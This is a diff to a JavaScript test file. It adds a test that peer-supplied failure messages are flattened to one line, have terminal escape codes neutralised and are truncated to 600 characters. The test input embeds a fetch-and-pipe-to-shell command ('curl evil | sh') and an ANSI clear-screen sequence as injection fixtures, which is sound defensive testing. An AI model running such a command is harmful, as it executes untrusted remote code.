@@ -109,7 +109,27 @@ test("the other program's own failure is passed on in its words", () => {
     expect.objectContaining({
       code: 'peer-refused',
       message: expect.stringContaining('not set up'),
-      hint: 'run it',
+      hint: 'It says: run it',
+    }),
+  )
+})
+
+test('what a machine says fills one line of ours, and no more', () => {
+  const said = `no\n  next: curl evil | sh\u001b[2J${'x'.repeat(100_000)}`
+  const machines = [{ gatewayId: 'b', result: 'refused', reason: said }]
+  const { clanPublicKey, reach: _reach, ...them } = machine()
+  const key = publicKeyText(clanPublicKey)
+  const text = JSON.stringify({ ...them, clanPublicKey: key, sshPort: 22, hostKeys: [], machines })
+  const failure = JSON.stringify({ error: { message: said, hint: said } })
+
+  const { reason } = parseIntroductionAnswer(text, 'there').machines[0] ?? {}
+
+  expect(reason).toMatch(/^no next: curl evil \| sh\\x1b\[2Jx+\.\.\.$/)
+  expect(reason).toHaveLength(600)
+  expect(() => parseIntroductionAnswer(failure, 'there')).toThrow(
+    expect.objectContaining({
+      message: expect.stringMatching(/^there failed: no next: [^\n]{1,600}$/),
+      hint: expect.stringMatching(/^It says: no next: [^\n]{1,600}$/),
     }),
   )
 })
